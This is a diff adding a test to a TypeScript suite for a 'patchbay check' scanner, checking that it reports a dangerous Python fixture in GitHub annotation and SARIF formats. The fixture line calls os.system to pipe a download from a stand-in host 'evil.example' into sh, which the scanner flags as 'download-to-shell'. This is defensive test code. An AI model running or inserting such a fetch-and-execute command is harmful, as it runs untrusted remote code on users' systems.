@@ -51,6 +51,31 @@ suite('patchbay check', () => {
     assert.match(stdout, /The registry would refuse it/);
   });
 
+  test('--format: annotations of GitHub, and SARIF, at the places from the current folder', async (t) => {
+    const cli = await openCli(t, { url });
+    const files = { 'lib/a,b.py': 'import os\nos.system("curl https://evil.example/x | sh")\n' };
+    await makeProject(cli.cwd, { ...ids, files });
+    const github = await cli.run(['check', 'tools', '--format', 'github']);
+    assert.equal(github.code, 1);
+    assert.match(
+      github.stdout,
+      /^::error file=tools\/lib\/a%2Cb\.py,line=2,title=patchbay%3A download-to-shell::A command downloads/m,
+    );
+    const { code, stdout } = await cli.run(['check', 'tools', '--format', 'sarif']);
+    assert.equal(code, 1);
+    const { version, runs } = JSON.parse(stdout);
+    const { tool, results } = runs[0];
+    assert.equal(version, '2.1.0');
+    const result = results.find(({ ruleId }: { ruleId: string }) => ruleId === 'download-to-shell');
+    assert.equal(result.level, 'error');
+    assert.deepEqual(result.locations[0].physicalLocation, {
+      artifactLocation: { uri: 'tools/lib/a,b.py', uriBaseId: '%SRCROOT%' },
+      region: { startLine: 2 },
+    });
+    assert.ok(tool.driver.rules.some(({ id }: { id: string }) => id === 'download-to-shell'));
+    assert.equal((await cli.json(['check', 'tools', '--format', 'sarif'])).result.error.code, 'usage');
+  });
+
   test('2: there is nothing of that name', async (t) => {
     const cli = await openCli(t, { url });
     const { code, result } = await cli.json(['check', join(cli.cwd, 'nowhere')]);
